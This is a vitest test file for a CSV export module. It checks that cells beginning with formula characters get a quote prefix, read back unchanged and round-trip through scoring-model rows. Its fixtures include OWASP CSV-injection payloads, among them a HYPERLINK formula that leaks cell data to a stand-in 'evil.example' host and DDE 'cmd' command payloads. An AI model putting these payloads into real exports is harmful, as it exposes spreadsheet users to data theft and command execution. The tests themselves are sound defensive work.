import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import type { ScoringModelRow } from '@scoreflow/flow';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvReadOptions, csvString, readCsvCell } from './csvCells.js';
import { modelRowsFromCsv, modelRowsToCsv } from './scoringModelCsv.js';

/** Payloads from OWASP's "CSV Injection" page and the characters it lists. */
const DANGEROUS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  "'=1+1",
  "''+1",
  '-5',
];
/** Ordinary text, including quotes that must survive untouched. */
const NORMAL = ['Ann', "O'Brien", "'quoted'", 'a,b', 'say "hi"', 'x=1', '', '5', '1-2'];

const rawCells = (csv: string) => parse(csv, { relax_column_count: true }) as string[][];

describe('CSV cells', () => {
  it('prefixes every cell that starts with a formula character with a quote, and still CSV-quotes it', () => {
    const csv = csvString([DANGEROUS]);
    const cells = rawCells(csv)[0] ?? [];
    expect(cells).toEqual(DANGEROUS.map((v) => `'${v}`));
    // The CSV quoting is the library's: the HYPERLINK cell has its commas and quotes escaped.
    expect(csv.startsWith('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"')).toBe(true);
    expect(cells.every((c) => !/^[=+\-@\t\r＝＋－＠]/.test(c))).toBe(true);
  });

  it('leaves ordinary text alone, and a negative number handed over as a number', () => {
    expect(rawCells(csvString([[...NORMAL, -5, -1.5e-7, 42]]))[0]).toEqual([
      ...NORMAL,
      '-5',
      '-1.5e-7',
      '42',
    ]);
  });

  it('reads back exactly what was written, dangerous or not', () => {
    const row = [...DANGEROUS, ...NORMAL];
    const csv = csvString([row.map((_, i) => `c${i}`), row]);
    const [record] = parse(csv, csvReadOptions({ columns: true })) as Record<string, string>[];
    expect(Object.values(record ?? {})).toEqual(row);
    expect(readCsvCell("'=1")).toBe('=1');
    expect(readCsvCell("''=1")).toBe("'=1");
    expect(readCsvCell("'Brien")).toBe("'Brien");
  });

  it('neutralises scoring model cells and imports them back unchanged', () => {
    const rows: ScoringModelRow[] = [
      {
        id: 'r1',
        asset: '=HYPERLINK("http://evil.example","x")',
        event: 'page.viewed',
        filter: { property: 'path', op: 'eq', value: "+cmd|' /C calc'!A0" },
        stage: 'awareness',
        points: -10,
        readiness: null,
      },
      {
        id: 'r2',
        asset: "'@quoted",
        event: 'form.submitted',
        filter: { property: 'n', op: 'gt', value: -3 },
        stage: 'engagement',
        points: null,
        readiness: -20,
      },
    ];
    const csv = modelRowsToCsv(rows);
    const [, first, second] = rawCells(csv);
    expect(first).toEqual([
      '\'=HYPERLINK("http://evil.example","x")',
      'awareness',
      '-10',
      '',
      'page.viewed',
      'path',
      'eq',
      "'+cmd|' /C calc'!A0",
      'r1',
    ]);
    expect(second).toEqual([
      "''@quoted",
      'engagement',
      '-20',
      '-20',
      'form.submitted',
      'n',
      'gt',
      '-3',
      'r2',
    ]);
    expect(modelRowsFromCsv(csv)).toEqual({ rows });
  });

  it('is the only module that writes CSV', () => {
    const src = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../../..');
    const writers: string[] = [];
    const walk = (dir: string) => {
      for (const entry of readdirSync(dir, { withFileTypes: true })) {
        const full = path.join(dir, entry.name);
        if (entry.isDirectory()) {
          if (!['node_modules', 'dist', 'data'].includes(entry.name)) walk(full);
        } else if (
          /\.tsx?$/.test(entry.name) &&
          /^import[^;]*from 'csv-stringify/m.test(readFileSync(full, 'utf8'))
        ) {
          writers.push(path.relative(src, full));
        }
      }
    };
    walk(path.join(src, 'apps'));
    walk(path.join(src, 'packages'));
    expect(writers).toEqual([path.join('apps', 'server', 'src', 'services', 'csvCells.ts')]);
  });
});
